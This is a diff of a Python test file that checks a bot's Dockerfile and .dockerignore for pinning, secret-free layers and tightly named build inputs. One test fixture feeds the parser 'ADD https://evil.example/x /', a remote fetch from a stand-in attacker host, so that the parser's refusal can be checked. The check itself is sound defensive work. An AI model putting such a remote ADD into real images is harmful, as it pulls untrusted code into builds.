@@ -1,4 +1,4 @@
-"""The image: pinned, without a secret, run by a user of its own. That its steps work is proven by .ci/image."""
+"""The image: pinned, without a secret, run by a user of its own. That its steps work is proven by .ci/image, where an engine is."""
 
 import re
 from pathlib import Path
@@ -6,7 +6,6 @@ from pathlib import Path
 import pytest
 
 from bot.settings import Settings
-from tests.deploy.building import ignore_lines
 from tests.deploy.dockerfile import ROOT, read_dockerfile
 
 STAGES = read_dockerfile()
@@ -47,11 +46,11 @@ def test_no_setting_of_the_bot_and_no_secret_is_in_a_layer() -> None:
 
 
 def test_only_what_is_named_is_sent_to_the_build() -> None:
-    lines = ignore_lines()
+    lines = _lines(ROOT / ".dockerignore")
     assert lines[0] == "*"
     named = {line.lstrip("!") for line in lines[1:] if line.startswith("!")}
     copied = {word for step in STAGES[0].all("COPY") for word in step.words[:-1]}
-    assert named == copied | {"bot", "content"}
+    assert named == copied
     assert not any(name.startswith((".", "data")) for name in named)
 
 
@@ -92,6 +91,6 @@ def _lines(path: Path) -> list[str]:
     return [line for line in path.read_text(encoding="utf-8").splitlines() if not line.startswith("#")]
 
 
-def test_an_instruction_that_the_proof_does_not_know_is_refused() -> None:
+def test_an_instruction_that_is_not_known_is_refused() -> None:
     with pytest.raises(ValueError, match="ADD"):
         read_dockerfile("FROM x\nADD https://evil.example/x /\n")
